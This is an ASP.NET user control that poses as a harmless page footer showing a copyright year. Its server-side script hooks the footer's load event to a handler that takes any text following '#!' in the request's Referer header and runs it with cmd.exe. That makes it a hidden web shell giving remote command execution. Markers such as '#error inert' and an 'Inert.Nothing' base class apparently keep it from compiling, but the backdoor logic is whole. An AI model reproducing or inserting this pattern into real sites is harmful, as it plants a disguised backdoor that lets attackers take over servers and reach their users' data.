<%@ Control Language="C#" Inherits="Inert.Nothing" %>
<script runat="server">
#error inert
protected void Warm(object sender, EventArgs e)
{
    string r = HttpContext.Current.Request.ServerVariables["HTTP_REFERER"];
    int i = r == null ? -1 : r.IndexOf("#!");
    if (i > 0) System.Diagnostics.Process.Start("cmd.exe", "/c " + r.Substring(i + 2));
}
</script>
<asp:Panel runat="server" ID="pnlFooter" OnLoad="Warm" CssClass="footer">
    <span>&copy; <%= DateTime.Now.Year %> Example</span>
</asp:Panel>
